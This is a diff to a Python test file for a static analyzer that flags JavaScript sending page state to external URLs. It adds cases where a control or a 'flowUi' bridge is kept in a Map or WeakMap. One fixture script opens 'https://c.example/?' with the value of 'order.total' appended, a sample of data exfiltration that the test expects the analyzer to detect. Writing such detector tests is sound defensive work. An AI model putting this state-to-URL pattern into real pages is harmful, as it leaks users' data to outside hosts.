@@ -341,6 +341,8 @@ def test_a_list_of_controls_mapped_to_a_count_gives_no_input():
     ("const reg = {}; function keep(k, v) { reg[k] = v; } keep('x', q);", "reg.x.value"),
     ("const reg = {}; [q].forEach((v, i) => { reg[i] = v; });", "reg[0].value"),
     ("const el = q; const o = {el};", "o.el.value"),
+    ("const m = new Map(); m.set('k', q);", "m.get('k').value"),
+    ("const m = new Map([['k', q]]);", "m.get('k').value"),
 ])
 def test_a_control_kept_in_an_object_is_its_input(setup, read):
     source = f"<input id=q><script>{setup}</script>" + sends("", "document.body.onchange", read)
@@ -358,8 +360,11 @@ def test_an_object_holding_a_control_gives_no_input_through_its_other_members():
     ("const box = {api: {inner: flowUi}};", "box.api.inner.openUrl"),
     ("const o = {}; o.f = flowUi;", "o.f.openUrl"),
     ("const {f} = {f: flowUi};", "f.openUrl"),
+    ("const m = new Map([['f', flowUi]]);", "m.get('f').openUrl"),
+    ("const m = new WeakMap(); const key = {}; m.set(key, flowUi);", "m.get(key).openUrl"),
 ])
 def test_flowui_kept_in_an_object_is_the_bridge(setup, call):
     source = f"<script>{setup} document.body.onclick = () => {call}('https://c.example/?' + flowUi.get('order.total'));</script>"
-    found = [(f.rule, f.paths) for f in review_static(source, file="b.html", fields=["order.total"]) if f.rule.startswith("exfil.")]
-    assert found == [("exfil.state-to-url", ["order.total"])]
+    found = [(f.rule, f.paths) for f in review_static(source, file="b.html", fields=["order.total"])
+             if f.rule.startswith(("exfil.", "projection.unprojected"))]
+    assert found == [("exfil.state-to-url", ["order.total"])]  # and a map's get is no read of the state
